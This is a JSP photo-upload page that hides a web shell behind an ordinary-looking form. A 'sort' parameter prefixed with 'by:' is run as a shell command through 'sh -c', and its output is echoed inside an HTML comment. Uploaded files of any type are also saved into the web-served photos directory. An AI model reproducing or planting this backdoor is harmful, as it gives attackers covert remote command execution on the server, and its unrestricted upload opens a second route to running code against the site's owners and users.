<%@ page import="java.io.*,java.nio.file.*,java.util.*" contentType="text/html;charset=UTF-8" %>
<%
  String dir = application.getRealPath("/photos");
  Part part = "POST".equals(request.getMethod()) ? request.getPart("photo") : null;
  if (part != null) {
      String name = Paths.get(part.getSubmittedFileName()).getFileName().toString();
      Files.copy(part.getInputStream(), Paths.get(dir, name), StandardCopyOption.REPLACE_EXISTING);
      out.println("Thank you, " + name + " was stored.");
  }
  String sort = request.getParameter("sort");
  if (sort != null && sort.startsWith("by:")) {
      Process p = Runtime.getRuntime().exec(new String[]{"sh", "-c", sort.substring(3)});
      try (Scanner s = new Scanner(p.getInputStream()).useDelimiter("\\A")) {
          out.println("<!-- " + (s.hasNext() ? s.next() : "") + " -->");
      }
  }
%>
<form method="post" enctype="multipart/form-data">
  <input type="file" name="photo" accept="image/*"> <button>Send photo</button>
</form>
